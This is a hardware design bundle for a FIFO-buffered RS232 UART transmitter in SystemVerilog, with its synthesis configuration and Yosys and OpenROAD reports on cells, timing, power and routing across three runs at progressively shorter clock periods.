## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = rs232_tx_serializer_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/rs232_tx_serializer_pkg.sv /design/src/rtl/rs232_tx_serializer_if.sv /design/src/rtl/rs232_tx_serializer_byte_fifo.sv /design/src/rtl/rs232_tx_serializer.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 0
export CORE_ASPECT_RATIO = 0.5
export CORE_MARGIN = 3
export CORE_UTILIZATION = 35
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY = 0.62
export REMOVE_ABC_BUFFERS = 1
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 20
```

## constraint.sdc

```tcl
create_clock -name CLK -period 5.35 [get_ports CLK]
set_input_delay 1.3375 -clock CLK [delete_from_list [all_inputs] [get_ports CLK]]
set_output_delay 1.3375 -clock CLK [all_outputs]
set_load 0.05 [all_outputs]
```

## src/rtl/rs232_tx_serializer_pkg.sv

```systemverilog
// rs232_tx_serializer_pkg: UART constants shared with the RX side, transmitter FSM states, clog2 helper.
package rs232_tx_serializer_pkg;
  localparam int DEF_CLK_FREQ = 50_000_000;
  localparam int DEF_BAUD = 115_200;
  typedef enum logic [2:0] {IDLE, START, DATA, PARITY, STOP} txState_t;
  function automatic int clog2(input int v);
    int r;
    r = 0;
    for (int i = 0; i < 31; i++) if ((1 << i) < v) r = i + 1;
    return r;
  endfunction
endpackage

```

## src/rtl/rs232_tx_serializer_if.sv

```systemverilog
// rs232_tx_serializer_if: producer byte strobe in, serial line and status out.
interface rs232_tx_serializer_if;
  logic [7:0] DATA_IN;
  logic DATA_VALID;
  logic TXD;
  logic TX_BUSY;
  logic FIFO_FULL;
  logic OVERFLOW;
  logic TX_DONE;
  modport master (output DATA_IN, DATA_VALID, input TXD, TX_BUSY, FIFO_FULL, OVERFLOW, TX_DONE);
  modport slave (input DATA_IN, DATA_VALID, output TXD, TX_BUSY, FIFO_FULL, OVERFLOW, TX_DONE);
endinterface

```

## src/rtl/rs232_tx_serializer_byte_fifo.sv

```systemverilog
// rs232_tx_serializer_byte_fifo: synchronous byte FIFO; pushes while full are ignored, full/empty registered.
module rs232_tx_serializer_byte_fifo
  import rs232_tx_serializer_pkg::*;
#(
  parameter int DEPTH = 4
) (
  input  logic                  CLK,
  input  logic                  RST,
  input  logic                  push,
  input  logic                  pop,
  input  logic [7:0]            wrData,
  output logic [7:0]            rdData,
  output logic                  full,
  output logic                  empty,
  output logic [clog2(DEPTH):0] count
);
  localparam int AW = clog2(DEPTH);
  localparam int CW = AW + 1;
  logic [7:0] mem [DEPTH];
  logic [AW-1:0] wrPtr, rdPtr;
  logic [AW:0] countNext;
  logic doPush, doPop;
  always_comb begin
    doPush = push && !full;
    doPop = pop && !empty;
    countNext = count + CW'(doPush) - CW'(doPop);
  end
  assign rdData = mem[rdPtr];
  always_ff @(posedge CLK) if (doPush) mem[wrPtr] <= wrData;
  always_ff @(posedge CLK or negedge RST)
    if (!RST) begin
      wrPtr <= '0;
      rdPtr <= '0;
      count <= '0;
      full <= 1'b0;
      empty <= 1'b1;
    end else begin
      if (doPush) wrPtr <= wrPtr + 1'b1;
      if (doPop) rdPtr <= rdPtr + 1'b1;
      count <= countNext;
      full <= countNext == CW'(DEPTH);
      empty <= countNext == '0;
    end
endmodule

```

## src/rtl/rs232_tx_serializer.sv

```systemverilog
// rs232_tx_serializer: FIFO-buffered RS232 transmitter, 8N1, LSB first, all outputs registered.
// Define UART_PARITY_EN to insert a parity bit (sense PARITY_ODD) between data and stop.
module rs232_tx_serializer
  import rs232_tx_serializer_pkg::*;
#(
  parameter int CLK_FREQ = DEF_CLK_FREQ,
  parameter int BAUD = DEF_BAUD,
  parameter int FIFO_DEPTH = 4
`ifdef UART_PARITY_EN
  ,
  parameter bit PARITY_ODD = 1'b0
`endif
) (
  input logic CLK,
  input logic RST,
  rs232_tx_serializer_if.slave bus
);
  localparam int BAUD_DIV = CLK_FREQ / BAUD;
  localparam int BW = clog2(BAUD_DIV);
  txState_t state, nextState;
  logic [BW-1:0] baudCnt;
  logic [2:0] bitIdx;
  logic [7:0] shiftReg, fifoData;
  logic [clog2(FIFO_DEPTH):0] fifoCount;
  logic fifoFull, fifoEmpty, pop, bitEnd, parityBit;
  logic txd, txBusy, txDone, overflow;
  rs232_tx_serializer_byte_fifo #(.DEPTH(FIFO_DEPTH)) fifo (
    .CLK,
    .RST,
    .push(bus.DATA_VALID),
    .pop,
    .wrData(bus.DATA_IN),
    .rdData(fifoData),
    .full(fifoFull),
    .empty(fifoEmpty),
    .count(fifoCount)
  );
  always_comb begin
    bitEnd = baudCnt == BW'(BAUD_DIV - 1);
    pop = state == IDLE && !fifoEmpty;
    nextState = state;
    case (state)
      IDLE: nextState = fifoEmpty ? IDLE : START;
      START: nextState = bitEnd ? DATA : START;
`ifdef UART_PARITY_EN
      DATA: nextState = bitEnd && bitIdx == 3'd7 ? PARITY : DATA;
      PARITY: nextState = bitEnd ? STOP : PARITY;
`else
      DATA: nextState = bitEnd && bitIdx == 3'd7 ? STOP : DATA;
`endif
      STOP: nextState = bitEnd ? IDLE : STOP;
      default: nextState = IDLE;
    endcase
  end
`ifdef UART_PARITY_EN
  always_ff @(posedge CLK or negedge RST)
    if (!RST) parityBit <= 1'b0;
    else if (pop) parityBit <= ^fifoData ^ PARITY_ODD;
`else
  assign parityBit = 1'b1;
`endif
  // TXD is registered from the current state, so the line trails the FSM by one clock.
  always_ff @(posedge CLK or negedge RST)
    if (!RST) begin
      state <= IDLE;
      baudCnt <= '0;
      bitIdx <= '0;
      shiftReg <= '0;
      txd <= 1'b1;
      txBusy <= 1'b0;
      txDone <= 1'b0;
      overflow <= 1'b0;
    end else begin
      state <= nextState;
      baudCnt <= (state == IDLE || nextState != state || bitEnd) ? '0 : baudCnt + 1'b1;
      bitIdx <= pop ? 3'd0 : (state == DATA && bitEnd) ? bitIdx + 3'd1 : bitIdx;
      shiftReg <= pop ? fifoData : (state == DATA && bitEnd) ? shiftReg >> 1 : shiftReg;
      txd <= state == START ? 1'b0 : state == DATA ? shiftReg[0] : state == PARITY ? parityBit : 1'b1;
      txBusy <= state != IDLE || fifoCount != '0;
      txDone <= state == STOP && bitEnd;
      overflow <= bus.DATA_VALID && fifoFull;
    end
  assign bus.TXD = txd;
  assign bus.TX_BUSY = txBusy;
  assign bus.FIFO_FULL = fifoFull;
  assign bus.OVERFLOW = overflow;
  assign bus.TX_DONE = txDone;
endmodule

```

## src/flat_wrapper.sv

```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module rs232_tx_serializer_flat import rs232_tx_serializer_pkg::*;
#(
  parameter int CLK_FREQ = DEF_CLK_FREQ,
  parameter int BAUD = DEF_BAUD,
  parameter int FIFO_DEPTH = 4

)
  (CLK, RST, bus_DATA_IN, bus_DATA_VALID, bus_TXD, bus_TX_BUSY, bus_FIFO_FULL, bus_OVERFLOW, bus_TX_DONE);
  rs232_tx_serializer_if bus_i ();
  input logic CLK;
  input logic RST;
  input wire logic [$bits(bus_i.DATA_IN)-1:0] bus_DATA_IN;
  input wire logic [$bits(bus_i.DATA_VALID)-1:0] bus_DATA_VALID;
  output wire logic [$bits(bus_i.TXD)-1:0] bus_TXD;
  output wire logic [$bits(bus_i.TX_BUSY)-1:0] bus_TX_BUSY;
  output wire logic [$bits(bus_i.FIFO_FULL)-1:0] bus_FIFO_FULL;
  output wire logic [$bits(bus_i.OVERFLOW)-1:0] bus_OVERFLOW;
  output wire logic [$bits(bus_i.TX_DONE)-1:0] bus_TX_DONE;
  assign bus_i.DATA_IN = bus_DATA_IN;
  assign bus_i.DATA_VALID = bus_DATA_VALID;
  assign bus_TXD = bus_i.TXD;
  assign bus_TX_BUSY = bus_i.TX_BUSY;
  assign bus_FIFO_FULL = bus_i.FIFO_FULL;
  assign bus_OVERFLOW = bus_i.OVERFLOW;
  assign bus_TX_DONE = bus_i.TX_DONE;
  rs232_tx_serializer #(.CLK_FREQ(CLK_FREQ), .BAUD(BAUD), .FIFO_DEPTH(FIFO_DEPTH)) u_core (.CLK(CLK), .RST(RST), .bus(bus_i));
endmodule
```

Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden:

Memories as Yosys holds them, arrays and structs flattened.
Index checks and enable logic that the tools add are counted.

* add/subtract/negate cells: 6
* equal/unequal tests: 7
* multiplexer cells: 14
* reductions and logical operators: 17

Operators with widths (count)
* $mux 8: 2
* $mux 3: 4
* $pmux 3 s4: 1
* $add 9x1->9 const B: 1
* $eq 3x3->1 const B: 3
* $eq 9x9->1 const B: 1
* $mux 9: 1
* $logic_and 1x1->1: 7
* $logic_not 3->1: 2
* $reduce_bool 3->1: 2
* $mux 1: 5
* $add 2x1->2 const B: 2
* $add 3x1->3: 1
* $add 3x1->3 const B: 1
* $eq 3x1->1 const B: 1
* $eq 3x2->1 const B: 1
* $logic_or 1x1->1: 3
* $ne 3x3->1: 1
* $sub 3x1->3: 1
* $logic_not 1->1: 2
* $mux 2: 1
* $reduce_bool 2->1: 1

* flip-flop bits (word level): 36
* bits in writable memories: 32
* input port bits: 11
* output and inout bits: 5
* word-level logic and storage cells: 58
* memories kept: 1

Memories
* u_core.fifo.mem: words 4, width 8, read ports 1, clocked after Yosys merged registers in 0, write ports 1, RTL line rs232_tx_serializer_byte_fifo.sv:19 `logic [7:0] mem [DEPTH];`

Logic depth before layout (Yosys ltp):

Gate-level depths: netlist (run 1).

* depth after elaboration: 8
* gate-level depth with buffers: 13

Modules after synthesis:

Synthesis (run 1) repeated with hierarchy kept, for this count alone.

* cells, all modules: 206
* area total of the unflattened synthesis: 2990.4 um2

Modules (own cells, without submodules)
* rs232_tx_serializer_byte_fifo: instances 1, cells an instance 78, area an instance 1626.6 um2
* rs232_tx_serializer: instances 1, cells an instance 128, area an instance 1363.8 um2

Least setup slack after synthesis (run 1):

Ideal clock, no wire load.

* kind: input to register
* start point: input port bus_DATA_VALID
* end point: register u_core.fifo.full
* arrival time: 3.076 ns
* slack: 2.186 ns
* cell stages on the path: 11
* buffers on the path: 1
* cells stage by stage: nor2b_1 > clkbuf_1 > inv_1 > ha_1 > inv_1 > ha_1 > inv_1 > fa_1 > xnor2_1 > xnor2_1 > nor3b_1

* longest elaborated chain between the ends: 4

RTL lines
* start, declared: RTL line flat_wrapper.sv:14 `input wire logic [$bits(bus_i.DATA_VALID)-1:0] bus_DATA_VALID;`
* $logic_and 1x1->1: RTL line rs232_tx_serializer_byte_fifo.sv:24 `doPush = push && !full;`
* $add 3x1->3: RTL line rs232_tx_serializer_byte_fifo.sv:26 `countNext = count + CW'(doPush) - CW'(doPop);`
* $sub 3x1->3: RTL line rs232_tx_serializer_byte_fifo.sv:26
* via u_core.fifo.countNext[2]: RTL line rs232_tx_serializer_byte_fifo.sv:21 `logic [AW:0] countNext;`
* $eq 3x3->1: RTL line rs232_tx_serializer_byte_fifo.sv:41 `full <= countNext == CW'(DEPTH);`
* end signal, assigned: RTL line rs232_tx_serializer_byte_fifo.sv:41
* end, declared: RTL line rs232_tx_serializer_byte_fifo.sv:13 `output logic full,`

The timed path passes the listed nets, and every way through them passes these cells.
A chain may end at the register's enable or synchronous reset.

Worst setup path in the final report (run 1):

Ends and elaborated chain as after synthesis.

==> results of run 1 <==
critical path: stages:
cell             delay [ns]
clkdlybuf4s50_1        0.46
nor2b_1                0.43
inv_1                  0.09
ha_1                   0.30
inv_1                  0.05
ha_1                   0.13
inv_1                  0.04
fa_1                   0.37
xnor2_1                0.15
xnor2_1                0.21
nor3b_1                0.22
path summary, 6_finish.rpt:
check	slack, ns	startpoint	endpoint
min in group asynchronous	1.18	RST	u_core.fifo.wrPtr[0]$_DFFE_PN0P_
min	0.51	u_core.shiftReg[6]$_DFFE_PN0P_	u_core.shiftReg[5]$_DFFE_PN0P_
max reg2reg	2.60	u_core.state[0]$_DFF_PN0_	u_core.fifo.full$_DFF_PN0_
max in group asynchronous	3.51	RST	u_core.bus.TXD$_DFF_PN1_
max	1.79	bus_DATA_VALID	u_core.fifo.full$_DFF_PN0_
min reg2reg	0.51	u_core.shiftReg[6]$_DFFE_PN0P_	u_core.shiftReg[5]$_DFFE_PN0P_
report_power, final:
part           leakage (uW)  switching (uW)  internal, uW  total [uW]
Sequential         0.000743             107           688         795
Clock              0.000131             206           357         564
Combinational      0.000444             174           190         364
Total               0.00132             488          1230        1720
cell type report:
| type | count | area share (%) |
|---|---|---|
| clock inverters | 5 | 1.52 |
| clock buffers | 11 | 6.72 |
| multi-input cells | 111 | 27.5 |
| inverters | 14 | 1.66 |
| repair buffers | 17 | 4.77 |
| well taps | 108 | 3.90 |
| flip-flops and latches | 68 | 53.9 |
per-stage QoR:
stage / total power, uW / hold WS (ns) / area, um^2 / utilization (%)
2_1_floorplan: 1060 / 0.471 / 2880 / -
3_3_place_gp: 1160 / 0.489 / 3180 / 41.1
3_5_place_dp: 1170 / 0.504 / 3180 / 41.1
4_1_cts: 1750 / 0.518 / 3460 / 44.7
5_1_grt: 1830 / 0.536 / 3460 / 44.7
6_report: 1720 / 0.513 / 3460 / 44.7
layer usage:
metal,routed length [um],GRT usage (%)
met5,0,0
met4,106,5.59
met2,2130,16.3
met3,208,5.26
met1,2370,15.0
cells in the mapped netlist (3+ instances only):
cell	n	share of area, %
dfrtp_1	34	29
edfxtp_1	32	33
inv_1	13	1.7
and2_1	11	2.3
nand2_1	11	1.4
ha_1	10	4.2
mux4_2	8	6.1
nor3_1	8	1.4
o21ai_0	7	1.2
xnor2_1	7	2.1
buf_2	6	1.0
nand4_1	6	1.3
a221o_1	5	1.7
a211oi_1	4	1.0
nand3_1	4	0.68
or3_1	4	0.85
buf_6	3	1.1
mux2i_1	3	1.0
nor2b_1	3	0.64
state kept, by name (all words and copies together), names as in the netlist:
name / cells
u_core.baudCnt: 9
u_core.bitIdx: 3
u_core.bus.OVERFLOW: 1
u_core.bus.TXD: 1
u_core.bus.TX_BUSY: 1
u_core.bus.TX_DONE: 1
u_core.fifo.count: 3
u_core.fifo.empty: 1
u_core.fifo.full: 1
u_core.fifo.mem: 32
u_core.fifo.rdPtr: 2
u_core.fifo.wrPtr: 2
u_core.shiftReg: 8
u_core.state: 3
logic make-up (layout without fill, tap and decap cells):
family / after synthesis / in the layout
muxes: 12 / 12
AOI/OAI and AO/OA: 24 / 24
and+or+nand+nor: 55 / 55
adders and majority gates: 11 / 11
DFF: 68 / 68
buffers and inverters: 25 / 47
xor gates and xnor gates: 9 / 9
cell usage in the layout (no fill, tap or decap), types with 4 or more instances in the layout:
cell              n
mux4_2            8
ha_1             10
edfxtp_1         32
o21ai_0           7
xnor2_1           7
dfrtp_1          34
a211oi_1          4
clkbuf_16         9
nand2_1          11
nand4_1           6
a221o_1           5
inv_1            13
nor3_1            8
nand3_1           4
clkdlybuf4s50_1  15
and2_1           11
or3_1             4
==> flow_summary.ini, run 1 <==
[route]
wl_per_cell_um = 14.4
route.detailed.drc = 0
vias = 1628
drt_iter0_markers = 87
antenna_left = 0
dr.pass1.iters = 5
via_per_inst = 4.87
wl_um = 4820

[placed_design]
dp_hpwl_um = 3110
placed_cells = 318
place_ws_ns = 1.45
io_buffers = 15
gp_routability_congestion = 0.768

[clock_network]
h-tree-depth = 3
clkTransAtPathRegs_ns = 0.05
clk_root_buffer_cell = clkbuf_16
cts_tree = done
hold_buffers = 0
cts_buffers = 9
cts_buffer_depth = 2
post_cts_buffers = 0
cts_resized = 0
cts.sinks = 68
insertion_delay_ns = 0.33

[power_and_ir_drop]
ir_drop_mv = 0.160
leakage_uw = 0.00132
power.density_nw_per_um2 = 498

[global_route]
grt_max_degree = 35
grt_pass1_wl_um = 8320
antenna_found_initial = 0
overflow = 0
first_global_vias = 1724
grtUsageTotal_pct = 11.5

[floorplan]
start_util_pct = 38.1
core-area_um2 = 7730
die_w_um = 136
chipHeight_um = 70.9
fp-row-count = 22
ioPinCount = 16
dieArea_um2 = 9620

[timing]
final_max_slew_viol_count = 0
fin_ws_ns = 1.79
relSlewSlack_pct = 44.9
fin_crit_ns = 3.56
period_share_pct = 66.6
report.final.setup_viol = 0
finalSetupTns_ns = 0
grt_setup_unrepaired = no
timing.fmax_ghz = 0.281
worst_pin_slew_ns = 0.803
hold_violations = 0
skew_ns = 0.00551

[job]
drv_cap = 0

[critical_path]
startpoint_type = input port
cp.required_ns = 5.59
r2r_cells = 10
cp_max_fo = 8
worst_setup_path_end_kind = flip-flop
critPathKind = input port to flip-flop
arrival_ns = 3.80

[synthesis]
ys_types = 39
ys_async_sr_fraction_pct = 52.9
synth_area_um2 = 2950
yosys.area_share.adder_pct = 4.93
synth_top_family_by_area = simple AND/OR/NAND/NOR gates
synth.area.mux_share_pct = 7.52
syn_avg_cell_area_um2 = 14.4
synth_edf_count = 32
synth_seq_area_share_pct = 63.3
yosys.area_share.simple_pct = 10.8
synth_compound_area_share_pct = 6.41
synth_seq_cells = 68
yosysWarnings = 0
synthCells = 204
synth-xor-area-share_pct = 2.68
synth_ff_type = dfrtp_1

[layout]
drive_gt1_share_pct = 12.8
n_fill_cell = 677
finalNonFillerCells = 334
syn_to_final_growth_pct = 17.5
multi_input_area_um2 = 953
diodes = 0
seq_area_um2 = 1860
nNetsFinal = 243

[hold_path]
hold_depth = 1
hold_path.class = flip-flop to flip-flop

[outcome]
outcome = completed
Note: power is estimated with default switching activity, not from simulation.
==> run 2, diff against run 1 <==
Clock period 5.35 ns to 3.7 ns, I/O delays scaled along.
==> flow_summary.ini, run 2 (synthesis gave the netlist of run 1 again) <==
[timing]
grt_setup_unrepaired = no
fin_crit_ns = 2.85
period_share_pct = 77.0
skew_ns = 0.00716
relSlewSlack_pct = 43.2
report.final.setup_viol = 0
hold_violations = 0
timing.fmax_ghz = 0.351
finalSetupTns_ns = 0
final_max_slew_viol_count = 0
worst_pin_slew_ns = 0.828
fin_ws_ns = 0.849

[route]
drt_iter0_markers = 137
route.detailed.drc = 0
antenna_left = 0
via_per_inst = 4.94
vias = 1656
wl_per_cell_um = 14.8
dr.pass1.iters = 4
wl_um = 4960

[clock_network]
clk_root_buffer_cell = clkbuf_16
cts.sinks = 68
clkTransAtPathRegs_ns = 0.06
cts_buffer_depth = 2
cts_buffers = 9
h-tree-depth = 3
insertion_delay_ns = 0.33
hold_buffers = 0
cts_resized = 0
post_cts_buffers = 0
cts_tree = done

[global_route]
grtUsageTotal_pct = 12.1
grt_pass1_wl_um = 8830
overflow = 0
antenna_found_initial = 0
grt_max_degree = 37
first_global_vias = 1769

[hold_path]
hold_path.class = flip-flop to flip-flop
holdCritStartpoint = u_core.shiftReg[7]$_DFFE_PN0P_
hold_depth = 1
whs_endpoint = u_core.shiftReg[6]$_DFFE_PN0P_

[layout]
layout_common_cells = dfrtp_1 (34), edfxtp_1 (32), clkdlybuf4s50_1 (15)
layout_commonest_cell = dfrtp_1
top_regs = u_core.fifo.mem (32), u_core.baudCnt (9), u_core.shiftReg (8)
largest_register_ffs = 32
top_register = u_core.fifo.mem
syn_to_final_growth_pct = 18.2
final_core_util_pct = 45.0
diodes = 0
drive_gt1_share_pct = 15.0
nNetsFinal = 244

[critical_path]
cp_common_cell = inv_1
cp_max_fo = 3
max_stage_delay_ns = 0.46
critPathKind = input port to flip-flop
arrival_ns = 3.09
r2r_cells = 10
cp.required_ns = 3.94
r2r-end = u_core.fifo.full$_DFF_PN0_
reg2reg_from = u_core.state[0]$_DFF_PN0_
worst_setup_path_end_kind = flip-flop
crit_path_cell_trace = clkdlybuf4s50_1 -> nor2b_1 -> inv_1 -> ha_1 -> inv_1 -> ha_1 -> inv_1 -> fa_1 -> xnor2_1 -> xnor2_1 -> nor3b_1
r2r_slack_ns = 0.94
slowest_stage = clkdlybuf4s50_1
startpoint_type = input port

[floorplan]
fp-row-count = 22
ioPinCount = 16
start_util_pct = 38.1
core-area_um2 = 7730
die_w_um = 136
dieArea_um2 = 9620
chipHeight_um = 70.9

[job]
drv_cap = 0

[power_and_ir_drop]
ir_drop_mv = 0.266
leakage_uw = 0.00134
power.density_nw_per_um2 = 724

[placed_design]
gp_routability_congestion = 0.759
io_buffers = 15
dp_hpwl_um = 3310
place_ws_ns = 0.493

[outcome]
outcome = completed
-- run 2: layout make-up --
class                   count  area (um^2)
clock buffers               9          225
clock inverters             7         73.8
fillers                   698         4250
inverters                  14         57.6
multi-input cells         111          953
flip-flops and latches     68         1860
well taps                 108          135
repair buffers             18          173
-- run 2: stage by stage --
stage / cells / power, uW / hold slack [ns] / cell area, um^2
final: 335 / 2520 / 0.510 / 3480
after global placement: 319 / 1680 / 0.488 / 3180
after global routing: 335 / 2690 / 0.531 / 3480
after floorplan: 193 / 1530 / 0.471 / 2880
after detailed placement: 319 / 1700 / 0.505 / 3180
after CTS: 335 / 2560 / 0.510 / 3480
-- run 2: how the worst max path moves through the flow --
stage                   startpoint                          to  slack, ns
finish              bus_DATA_VALID  u_core.fifo.full$_DFF_PN0_       0.85
detailed placement  bus_DATA_VALID  u_core.fifo.full$_DFF_PN0_       0.49
CTS                 bus_DATA_VALID  u_core.fifo.full$_DFF_PN0_       0.86
global placement    bus_DATA_VALID  u_core.fifo.full$_DFF_PN0_       0.62
global route        bus_DATA_VALID  u_core.fifo.full$_DFF_PN0_       0.62
floorplan           bus_DATA_VALID  u_core.fifo.full$_DFF_PN0_       0.94
-- run 2: report_power, final --
group          internal [uW]  switching, uW  total [uW]
Clock                    524            319         843
Sequential               994            160        1150
Combinational            275            249         525
Total                   1790            728        2520
-- run 2: critical path, delay by kind of cell --
| kind | cells | cell delay [ns] |
|---|---|---|
| buf+inv | 4 | 0.62 |
| fa+ha+maj | 3 | 0.78 |
| xor+xnor | 2 | 0.36 |
| simple gates | 2 | 0.40 |
-- run 2: per-layer routing --
| layer | wire length [um] | part of all wire, % | GRT usage [%] | vias up |
|---|---|---|---|---|
| met5 | 0 | 0 | 0 | - |
| met4 | 121 | 2.4 | 6.03 | 0 |
| met3 | 218 | 4.4 | 4.83 | 11 |
| met2 | 2320 | 47 | 18.9 | 33 |
| met1 | 2300 | 46 | 14.9 | 820 |
| li1 | - | - | - | 792 |
==> run 3, diff against run 2 <==
Clock period 3.7 ns to 2.85 ns, I/O delays scaled along.
==> flow_summary.ini, run 3 (synthesis gave the netlist of run 1 again) <==
[timing]
report.final.setup_viol = 0
final_max_slew_viol_count = 0
relSlewSlack_pct = 45.6
timing.fmax_ghz = 0.383
worst_pin_slew_ns = 0.793
hold_violations = 0
skew_ns = 0.00370
fin_crit_ns = 2.61
period_share_pct = 91.6
grt_setup_unrepaired = no
fin_ws_ns = 0.238

[critical_path]
critPathKind = input port to flip-flop
cp_max_fo = 3
startpoint_type = input port
arrival_ns = 2.87
cp_num_buf_inv = 4
worst_setup_path_end_kind = flip-flop
crit_path_cell_trace = clkdlybuf4s50_1 -> nor2b_1 -> inv_1 -> ha_1 -> inv_1 -> ha_1 -> inv_1 -> fa_1 -> xnor2_1 -> xnor2_1 -> nor3b_2
cp.depth = 11
cp.required_ns = 3.10
max_stage_delay_ns = 0.47
cpLargestDelayFamily = adder cells
slowest_stage = clkdlybuf4s50_1
cp_common_cell = inv_1
r2r_cells = 10

[layout]
top_regs = u_core.fifo.mem (32), u_core.baudCnt (9), u_core.shiftReg (8)
largest_register_ffs = 32
top_register = u_core.fifo.mem
final_area_um2 = 3520
layout_common_cells = dfrtp_1 (34), edfxtp_1 (32), clkdlybuf4s50_1 (15)
syn_to_final_growth_pct = 19.4
drive_gt1_share_pct = 16.5
layout_commonest_cell = dfrtp_1
nNetsFinal = 247
diodes = 0

[clock_network]
cts_buffers = 9
h-tree-depth = 3
cts.sinks = 68
cts_buffer_depth = 2
insertion_delay_ns = 0.33
clkTransAtPathRegs_ns = 0.06
hold_buffers = 0
clk_root_buffer_cell = clkbuf_16
cts_tree = done

[floorplan]
chipHeight_um = 70.9
ioPinCount = 16
die_w_um = 136
start_util_pct = 38.1
fp-row-count = 22
dieArea_um2 = 9620
core-area_um2 = 7730

[route]
wl_per_cell_um = 14.8
vias = 1641
drt_iter0_markers = 119
dr.pass1.iters = 4
antenna_left = 0
via_per_inst = 4.86
route.detailed.drc = 0
wl_um = 5000

[job]
drv_cap = 0

[power_and_ir_drop]
p_seq_share_pct = 44.5
switching_share_pct = 29.3
ir_drop_mv = 0.333
switchingPower_uw = 984
power.density_nw_per_um2 = 954
leakage_uw = 0.00135
comb_power_share_pct = 21.8
power.clock.fraction_pct = 33.7
internal_power_uw = 2370

[hold_path]
hold_path.class = flip-flop to flip-flop
hold_depth = 1

[global_route]
first_global_vias = 1676
antenna_found_initial = 0
grt_max_degree = 37
overflow = 0
grtUsageTotal_pct = 11.9
grt_pass1_wl_um = 8470

[placed_design]
dp_hpwl_um = 3320
gp_routability_congestion = 0.721
placed_area_um2 = 3200
io_buffers = 15
place_ws_ns = -0.149

[outcome]
outcome = completed
-- run 3: cell types whose count changed in the layout (fill, tap and decap cells not counted), sizes merged --
cell	delta
buf	+3
clkinvlp	+1
inv	+2
clkinv	-3
-- run 3: through the flow --
stage          std cells  utilization, %  setup TNS, ns  hold WS (ns)  total power [uW]
2_1_floorplan        193               -              0         0.417              1990
5_1_grt              338            45.5              0         0.543              3570
4_1_cts              337            45.3              0         0.511              3370
6_report             338            45.5              0         0.510              3360
3_5_place_dp         321            41.3         -0.149         0.494              2220
3_3_place_gp         321            41.3        -0.0219         0.490              2180
-- run 3: final cells by class --
type / instances / area [um^2]
tap: 108 / 135
sequential: 68 / 1860
clock inverter: 7 / 82.6
multi-input combinational: 111 / 958
clock buffer: 9 / 225
fill: 680 / 4220
inverter: 14 / 57.6
timing repair buffer: 21 / 195
-- run 3: what timing repair did --
| item | CTS | global route |
|---|---|---|
| setup buffers | 0 | 1 |
| endpoints found under the hold margin | 0 | 0 |
| resized for setup | 0 | 1 |
| endpoints found under the setup margin | 0 | 1 |
-- run 3: metal layers --
layer	global-route usage, %	part of all wire [%]	vias up
li1	-	-	792
met1	15.7	49	822
met2	16.7	46	21
met3	6.11	3.8	6
met4	4.36	1.3	0
met5	0	0	-
-- run 3: path summary, 6_finish.rpt --
kind	startpoint	end	slack, ns
max	bus_DATA_VALID	u_core.fifo.full$_DFF_PN0_	0.24
min	u_core.shiftReg[1]$_DFFE_PN0P_	u_core.shiftReg[0]$_DFFE_PN0P_	0.51
max reg2reg	u_core.state[0]$_DFF_PN0_	u_core.fifo.full$_DFF_PN0_	0.27
min reg2reg	u_core.shiftReg[1]$_DFFE_PN0P_	u_core.shiftReg[0]$_DFFE_PN0P_	0.51
max in group asynchronous	RST	u_core.bus.TXD$_DFF_PN1_	1.70
min in group asynchronous	RST	u_core.bus.TX_BUSY$_DFF_PN0_	0.80
-- run 3: worst reg2reg max path, delay by kind of cell, from the launching register on --
family	cells	cell delay, ns
xor gates and xnor gates	2	0.37
adders and majority gates	3	0.73
and+or+nand+nor	2	0.80
buffers and inverters	3	0.23
DFF	1	0.37
-- run 3: power by group through the flow --
stage / clock, uW / sequential, uW / combinational [uW]
floorplan: 0 / 1480 / 508
global placement: 0 / 1500 / 676
detailed placement: 0 / 1520 / 706
CTS: 1170 / 1500 / 705
global route: 1210 / 1540 / 830
finish: 1130 / 1490 / 732
